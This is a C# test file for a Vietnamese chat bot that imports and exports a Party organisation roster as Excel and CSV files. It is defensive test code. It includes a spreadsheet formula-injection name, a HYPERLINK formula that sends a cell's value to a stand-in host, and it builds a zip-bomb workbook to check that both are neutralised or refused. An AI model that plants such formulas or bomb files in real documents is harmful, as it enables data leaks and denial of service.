using System.Text;
using ChiBo.Bot.Tests.Scripts;
using ChiBo.Dialogs.Conversation;
using ChiBo.Dialogs.OrgFile;
using ChiBo.Dialogs.Storage;
using ChiBo.Dialogs.Summaries;
using ChiBo.Bot.Reports;
using MiniExcelLibs;

namespace ChiBo.Bot.Tests.Reports;

/// <summary>The organisation as real .xlsx and .csv files: the form, the export, imports through the chat, files that cannot be read.</summary>
public sealed class OrgFileTests : IDisposable
{
    readonly ScriptHost _host = new(ScriptRunner.DefaultStart);
    readonly ChiBo.Bot.Reports.ReportFiles _files;
    readonly string _dir = Directory.CreateTempSubdirectory("chibo-org").FullName;

    public OrgFileTests()
    {
        _files = new ChiBo.Bot.Reports.ReportFiles(Path.Combine(_dir, "out"), _host.Clock);
        // A demo admin on the console, to send files.
        _host.Store.Members.Insert(new Dialogs.Domain.Member { Id = "qt", Name = "Quản trị", Roles = [new() { Role = Dialogs.Domain.Role.Admin }] });
        _host.Store.Identities.Insert(new Dialogs.Domain.ChatIdentity { Id = "console:qt", Channel = "console", PlatformUserId = "qt", MemberId = "qt" });
    }

    public void Dispose()
    {
        _host.Dispose();
        try { Directory.Delete(_dir, true); } catch (IOException) { }
    }

    async Task<BotMessage> SendFileAsync(string path)
    {
        await _host.SendFileAsync("qt", "qt", path);
        return _host.TakeNew().Last();
    }

    async Task<BotMessage> TapAsync(BotMessage message, int index)
    {
        await _host.TapAsync("qt", "qt", false, message, index);
        return _host.TakeNew().Last();
    }

    async Task<BotMessage> SayAsync(string text)
    {
        await _host.SendAsync("qt", "qt", false, text);
        return _host.TakeNew().Last();
    }

    string Write(string name, string text, Encoding encoding)
    {
        var path = Path.Combine(_dir, name);
        File.WriteAllText(path, text, encoding);
        return path;
    }

    int Documents => _host.Store.OrgUnits.Count() + _host.Store.Cells.Count() + _host.Store.Members.Count();

    [Fact]
    public async Task The_form_has_the_columns_a_guide_and_an_example_that_imports_as_it_is()
    {
        var form = (string)((OutboxMessage)(await SayAsync("/mau")).Native).FilePath!;
        Assert.Equal([OrgTable.SheetName, "Hướng dẫn", "Ví dụ", "Danh mục"], MiniExcel.GetSheetNames(form));
        using (var book = new WorkbookReader(form))
        {
            // Drop-down lists for the fixed columns (Loại, Loại hình, Vai trò, Tình trạng), their values on "Danh mục".
            var lists = book.Sheet(OrgTable.SheetName).Descendants<DocumentFormat.OpenXml.Spreadsheet.DataValidation>().ToList();
            Assert.Equal(["A2:A5001", "F2:F5001", "J2:J5001", "K2:K5001"], lists.Select(l => l.SequenceOfReferences!.InnerText));
            Assert.Equal("'Danh mục'!$A$2:$A$4", lists[0].Formula1!.Text);
            Assert.Equal(["Loại", "Đơn vị", "Chi bộ", "Đảng viên"], Enumerable.Range(1, 4).Select(r => book.Text("Danh mục", r, 0)));
            Assert.Equal("Chi bộ thôn, tổ dân phố (khu dân cư)", book.Text("Danh mục", 2, 1));
            // The empty form's columns are as wide as the example's values; the guide wraps within the page.
            var widths = book.Sheet(OrgTable.SheetName).Descendants<DocumentFormat.OpenXml.Spreadsheet.Column>().Select(c => c.Width!.Value).ToList();
            Assert.True(widths[8] >= "Nhà văn hóa thôn Đông".Length, $"Địa điểm: {widths[8]}");
            Assert.True(book.Sheet("Hướng dẫn").Descendants<DocumentFormat.OpenXml.Spreadsheet.Column>().Sum(c => c.Width!.Value) <= 90);
        }
        var header = _files.ReadTable(form).Rows;
        Assert.Equal(OrgTable.Columns.Select(c => c.Header), Assert.Single(header));
        var guide = MiniExcel.Query(form, useHeaderRow: true, sheetName: "Hướng dẫn").Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(OrgTable.Columns.Length, guide.Count);

        // The example sheet, saved as its own workbook, is a valid file (its unit hangs under the demo province).
        var example = MiniExcel.Query(form, useHeaderRow: false, sheetName: "Ví dụ").Cast<IDictionary<string, object>>()
            .Select(r => r.Values.Select(v => v?.ToString() ?? "").ToList()).ToList();
        example[1][3] = "tinh-hung-yen";
        example[1][1] = "xa-vi-du";
        example[2][3] = "xa-vi-du";
        example[2][1] = "cb-vi-du";
        foreach (var r in example.Skip(3)) r[3] = "cb-vi-du";
        var (plan, errors) = OrgImport.Check(_host.Store, ScriptHost.Templates, example.Select(r => (IReadOnlyList<string>)r).ToList(), DateTime.UtcNow);
        Assert.Empty(errors);
        Assert.Equal((1, 1, 4), (plan!.NewUnits.Count, plan.NewCells.Count, plan.NewMembers.Count));
        Assert.Equal("QĐ 20-QĐ/ĐU ngày 01/12/2026", plan.NewMembers.Single(m => m.Id == "dv-004").Suspension?.Decision); // the example's suspended member
    }

    [Fact]
    public async Task The_exported_workbook_and_csv_import_back_without_any_change()
    {
        var an = _host.Store.Members.FindById("an");
        (an.BirthDate, an.AdmittedOn, an.FullMemberOn, an.CardNumber) = (new DateTime(1968, 4, 12), new DateTime(1995, 5, 19), new DateTime(1996, 5, 19), "01234567");
        _host.Store.Members.Update(an);
        foreach (var command in new[] { "/xuat", "/xuat csv" })
        {
            var reply = await SayAsync(command);
            Assert.Equal("Danh sách tổ chức hiện tại: 2 đơn vị, 4 chi bộ, 15 đảng viên.", reply.Text.Split(" Sửa rồi")[0]);
            var path = ((OutboxMessage)reply.Native).FilePath!;
            Assert.Equal(command.EndsWith("csv") ? ".csv" : ".xlsx", Path.GetExtension(path));
            if (path.EndsWith(".csv")) Assert.Equal([0xEF, 0xBB, 0xBF], File.ReadAllBytes(path)[..3]); // Excel reads the diacritics
            var anRow = _files.ReadTable(path).Rows.Single(r => r[1] == "an");
            Assert.Equal(["12/04/1968", "19/05/1995", "19/05/1996", "01234567"], anRow.Skip(11).Take(4)); // the member's record travels with it
            var again = await SendFileAsync(path);
            Assert.EndsWith(" hợp lệ và không có gì khác danh sách hiện có (21 dòng đã có); không cần nhập.", again.Text);
        }
    }

    [Fact]
    public void A_file_sent_to_a_user_is_named_in_Vietnam_time()
    {
        // 23:54 UTC on 6/12 is 06:54 on 7/12 in Vietnam: the name a user sees carries the day they asked on, as the backups'.
        var clock = new Microsoft.Extensions.Time.Testing.FakeTimeProvider(new DateTimeOffset(2026, 12, 6, 23, 54, 0, TimeSpan.Zero));
        var files = new ChiBo.Bot.Reports.ReportFiles(Path.Combine(_dir, "named"), clock);
        var path = files.SaveCsv("to-chuc", new Dialogs.Summaries.ReportSheet("Tổ chức", ["Mã"], [["x"]]));
        Assert.StartsWith("to-chuc-20261207-065400-", Path.GetFileName(path));
    }

    [Fact]
    public void A_workbook_made_by_a_spreadsheet_program_is_read_from_its_organisation_sheet_under_the_title_block()
    {
        // Made by LibreOffice from files/to-chuc-co-bia.fods: a cover sheet "Bìa" first, then "Tổ chức" with a merged title.
        var path = Path.Combine(Scripts.ConversationScriptTests.Folder, "files", "to-chuc-co-bia.xlsx");
        using (var zip = System.IO.Compression.ZipFile.OpenRead(path))
        {
            var app = new StreamReader(zip.GetEntry("docProps/app.xml")!.Open()).ReadToEnd();
            Assert.Contains("LibreOffice", app);
            Assert.Contains("<mergeCell ref=\"A1:O1\"/>", new StreamReader(zip.GetEntry("xl/worksheets/sheet2.xml")!.Open()).ReadToEnd());
        }
        var table = _files.ReadTable(path);
        Assert.Equal(OrgTable.SheetName, table.Sheet);
        Assert.Equal("DANH SÁCH TỔ CHỨC ĐẢNG BỘ XÃ HÒA BÌNH", table.Rows[0][0]);
        Assert.Equal("Loại", table.Rows[3][0]);
        var binh = table.Rows.Single(r => r.Count > 1 && r[1] == "hb-001");
        Assert.Equal("25/03/1970", binh[11]); // a date cell, read as the date it shows
        var duc = table.Rows.Single(r => r.Count > 1 && r[1] == "hb-002");
        Assert.Equal("Trịnh Văn Đức", duc[2]); // typed with combining accents in the file, read as NFC
        var (plan, errors) = OrgImport.Check(_host.Store, ScriptHost.Templates, table.Rows, _host.Clock.GetUtcNow().UtcDateTime);
        Assert.Empty(errors);
        Assert.Equal((1, 2, 4), (plan!.NewUnits.Count, plan.NewCells.Count, plan.NewMembers.Count));
    }

    [Fact]
    public async Task Names_shaped_like_formulas_are_text_in_the_csv_and_the_workbook_and_import_back_unchanged()
    {
        string[] names = ["=HYPERLINK(\"http://x.invalid/?\"&C3,\"Xem\")", "+84 Nguyễn Văn Cộng", "-Trừ Văn Âm", "@Lệnh Văn Gọi"];
        for (var i = 0; i < names.Length; i++)
            _host.Store.Members.Insert(new Dialogs.Domain.Member { Id = $"ct-{i}", Name = names[i], CellId = "cb-thon-dong", Roles = [new() { Role = Dialogs.Domain.Role.Member, ScopeId = "cb-thon-dong" }] });
        _host.Store.Members.Insert(new Dialogs.Domain.Member { Id = "ct-tab", Name = "\t=1+1", CellId = "cb-thon-dong" });

        var csv = ((OutboxMessage)(await SayAsync("/xuat csv")).Native).FilePath!;
        var text = File.ReadAllText(csv);
        Assert.Contains("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&C3,\"\"Xem\"\")\"", text);
        foreach (var name in names.Skip(1)) Assert.Contains($",\"'{name}\",", text);
        Assert.Contains(",'\t=1+1,", text);
        Assert.DoesNotMatch("(^|,)\"?[=+@\t-]", text.Replace("\r\n", ",")); // no cell starts like a formula

        var xlsx = ((OutboxMessage)(await SayAsync("/xuat")).Native).FilePath!;
        using (var zip = System.IO.Compression.ZipFile.OpenRead(xlsx))
        {
            var sheet = new StreamReader(zip.Entries.First(e => e.FullName.StartsWith("xl/worksheets/sheet")).Open()).ReadToEnd();
            Assert.DoesNotMatch("<(x:)?f[ >]", sheet); // no formula anywhere: the names are text cells
            Assert.Contains("=HYPERLINK(\"http://x.invalid/?\"&amp;C3,\"Xem\")", sheet.Replace("&quot;", "\""));
        }
        _host.Store.Members.Delete("ct-tab"); // a leading tab is cleaned away on import: not a round trip
        foreach (var path in new[] { xlsx, csv })
        {
            File.Delete(path);
            var fresh = ((OutboxMessage)(await SayAsync(path.EndsWith(".csv") ? "/xuat csv" : "/xuat")).Native).FilePath!;
            Assert.EndsWith("hợp lệ và không có gì khác danh sách hiện có (25 dòng đã có); không cần nhập.", (await SendFileAsync(fresh)).Text);
        }
    }

    [Fact]
    public async Task A_workbook_with_Excel_times_and_numbers_imports_after_confirming_and_a_second_send_changes_nothing()
    {
        var path = Path.Combine(_dir, "to-chuc.xlsx");
        var rows = new List<Dictionary<string, object?>>
        {
            Row("Đơn vị", "xa-moi", "Đảng bộ xã Mới", "tinh-hung-yen"),
            Row("Chi bộ", "cb-moi", "Chi bộ thôn Mới", "xa-moi", ("Loại hình", "thôn"), ("Ngày họp", 12.0), ("Giờ họp", new TimeSpan(19, 45, 0))),
            Row("Đảng viên", "moi-1", "Phan Văn Mới", "cb-moi", ("Vai trò", "bí thư")),
        };
        MiniExcel.SaveAs(path, rows);
        var preview = await SendFileAsync(path);
        Assert.Equal("Tệp to-chuc.xlsx hợp lệ.\nSẽ thêm: 1 đơn vị, 1 chi bộ, 1 đảng viên.\nNhập vào danh sách?", preview.Text);
        Assert.Equal(["Nhập", "Không nhập"], preview.Choices.Select(c => c.Label));
        var before = Documents;
        Assert.Equal(before, Documents); // nothing written before "Nhập"

        var done = await TapAsync(preview, 0);
        Assert.StartsWith("Đã nhập tệp to-chuc.xlsx: 1 đơn vị mới, 1 chi bộ mới, 1 đảng viên mới.", done.Text);
        var cell = _host.Store.Cells.FindById("cb-moi");
        Assert.Equal((12, "19:45", "/tinh-hung-yen/xa-moi/cb-moi/"), (cell.MeetingDay, cell.MeetingTime, cell.Path));
        Assert.Equal(before + 3, Documents);
        Assert.Equal("Không có tệp nào đang chờ nhập.", (await SayAsync("/nhap huy")).Text);
        Assert.Contains("không có gì khác danh sách hiện có", (await SendFileAsync(path)).Text);
    }

    static Dictionary<string, object?> Row(string kind, string code, string name, string parent, params (string Column, object? Value)[] more)
    {
        var row = OrgTable.Columns.ToDictionary(c => c.Header, _ => (object?)null);
        (row["Loại"], row["Mã"], row["Tên"], row["Thuộc"]) = (kind, code, name, parent);
        foreach (var (c, v) in more) row[c] = v;
        return row;
    }

    [Fact]
    public async Task A_received_file_is_parsed_once_when_it_arrives_not_again_inside_the_turn_or_at_import()
    {
        var csv = Write("moi.csv", "Loại,Mã,Tên,Thuộc\nĐơn vị,xa-mot-lan,Đảng bộ xã Một Lần,tinh-hung-yen\n", new UTF8Encoding(false));
        var preview = await SendFileAsync(csv);
        Assert.StartsWith("Tệp moi.csv hợp lệ.", preview.Text);
        Assert.Equal(1, _host.Reports.Parses); // read by the channel before the turn; the turn found it read
        Assert.StartsWith("Đã nhập tệp moi.csv", (await TapAsync(preview, 0)).Text);
        Assert.Equal(1, _host.Reports.Parses);
        Assert.NotNull(_host.Store.OrgUnits.FindById("xa-mot-lan"));
    }

    [Fact]
    public async Task A_file_that_changed_after_the_preview_or_a_stale_button_is_not_imported()
    {
        var path = Write("a.csv", "Loại,Mã,Tên,Thuộc\nĐơn vị,xa-a,Xã A,tinh-hung-yen\n", new UTF8Encoding(false));
        var preview = await SendFileAsync(path);
        var second = await SendFileAsync(Write("b.csv", "Loại,Mã,Tên,Thuộc\nĐơn vị,xa-b,Xã B,tinh-hung-yen\n", new UTF8Encoding(false)));
        Assert.StartsWith("Lựa chọn này đã cũ", (await TapAsync(preview, 0)).Text); // the newer preview replaced its buttons
        var hashOfA = Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(path)))[..10].ToLowerInvariant();
        var offer = await SayAsync($"/nhap {hashOfA}");
        Assert.Equal("Nút này không ứng với tệp đang chờ (b.csv). Nhập tệp b.csv?", offer.Text);
        Assert.Null(_host.Store.OrgUnits.FindById("xa-a"));
        Assert.StartsWith("Đã nhập tệp b.csv", (await TapAsync(offer, 0)).Text);
        Assert.NotNull(_host.Store.OrgUnits.FindById("xa-b"));
        Assert.Empty(Directory.GetFiles(Path.Combine(Path.GetDirectoryName(_host.DbPath)!, "imports"))); // the replaced and the imported file are gone
    }

    [Fact]
    public async Task A_workbook_bomb_and_a_giant_cell_are_refused_before_they_are_parsed_and_change_nothing()
    {
        // A real workbook whose sheet holds one inline cell of 60 million characters: a few hundred KB zipped.
        var bomb = Path.Combine(_dir, "to-chuc.xlsx");
        MiniExcel.SaveAs(bomb, new[] { new Dictionary<string, object> { ["Loại"] = "x" } });
        using (var zip = System.IO.Compression.ZipFile.Open(bomb, System.IO.Compression.ZipArchiveMode.Update))
        {
            var sheet = zip.Entries.First(e => e.FullName.StartsWith("xl/worksheets/sheet"));
            var name = sheet.FullName;
            sheet.Delete();
            using var w = new StreamWriter(zip.CreateEntry(name, System.IO.Compression.CompressionLevel.Optimal).Open());
            w.Write("""<?xml version="1.0" encoding="utf-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>""");
            var chunk = new string('A', 1 << 20);
            for (var i = 0; i < 60; i++) w.Write(chunk);
            w.Write("</t></is></c></row></sheetData></worksheet>");
        }
        Assert.True(new FileInfo(bomb).Length < ReportFiles.MaxTableBytes);
        var before = Documents;
        var reply = await SendFileAsync(bomb);
        Assert.StartsWith("Tệp to-chuc.xlsx không đọc được: Tệp khi giải nén lớn quá 40 MB", reply.Text);
        Assert.Equal(before, Documents);
        Assert.Equal(0, _host.Store.PendingImports.Count());

        // A cell far longer than any name, in a file under the size limit.
        var csv = Write("dai.csv", "Loại,Mã,Tên,Thuộc\nĐơn vị,xa-dai," + new string('B', 100_000) + ",\n", new UTF8Encoding(false));
        Assert.Equal("Tệp dai.csv không đọc được: Dòng 2, cột C: ô dài 100.000 ký tự, quá 2.000. Kiểm tra lại tệp.\nChưa nhập gì. Sửa tệp rồi gửi lại; mẫu: /mau",
            (await SendFileAsync(csv)).Text);
        Assert.Equal(before, Documents);
    }

    [Fact]
    public async Task Files_that_cannot_be_read_get_a_clear_reason_and_change_nothing()
    {
        var before = Documents;
        var legacy = Write("cu.csv", "Loại;Mã;Tên;Thuộc\nĐơn vị;xa-c;Xã Cũ;\n", Encoding.Latin1);
        Assert.Equal("Tệp cu.csv không đọc được: Tệp CSV không ở dạng UTF-8. Trong Excel chọn Lưu thành → \"CSV UTF-8\", hoặc gửi tệp .xlsx.\nChưa nhập gì. Sửa tệp rồi gửi lại; mẫu: /mau",
            (await SendFileAsync(legacy)).Text);
        Assert.StartsWith("Tệp hong.xlsx không đọc được: Không đọc được tệp (hỏng hoặc không phải bảng tính .xlsx).",
            (await SendFileAsync(Write("hong.xlsx", "không phải excel", Encoding.UTF8))).Text);
        Assert.StartsWith("Tệp anh.jpg không đọc được: Bot đọc được tệp .xlsx hoặc .csv, không đọc được tệp .jpg.",
            (await SendFileAsync(Write("anh.jpg", "x", Encoding.UTF8))).Text);
        Assert.StartsWith("Tệp trong.csv có 1 lỗi:\n• Dòng 1: tệp không có dữ liệu.", (await SendFileAsync(Write("trong.csv", "", Encoding.UTF8))).Text);
        Assert.Equal(before, Documents);
        Assert.Equal(0, _host.Store.PendingImports.Count());
        Assert.Empty(Directory.GetFiles(Path.Combine(Path.GetDirectoryName(_host.DbPath)!, "imports"))); // refused files are not kept
    }

    [Fact]
    public async Task A_semicolon_csv_from_a_Vietnamese_Excel_reads_with_quotes_and_commas_inside()
    {
        var path = Write("vn.csv", "Loại;Mã;Tên;Thuộc;Loại hình;Địa điểm\nChi bộ;cb-q;\"Chi bộ Khu phố 1; phường A\";xa-yen-my;tổ dân phố;\"Nhà văn hóa, khu 1\"\n", new UTF8Encoding(true));
        var preview = await SendFileAsync(path);
        Assert.StartsWith("Tệp vn.csv hợp lệ.\nSẽ thêm: 1 chi bộ.\n", preview.Text);
        await TapAsync(preview, 0);
        var cell = _host.Store.Cells.FindById("cb-q");
        Assert.Equal(("Chi bộ Khu phố 1; phường A", "Nhà văn hóa, khu 1", Dialogs.Domain.CellType.RESIDENTIAL), (cell.Name, cell.Venue, cell.Type));
    }
}
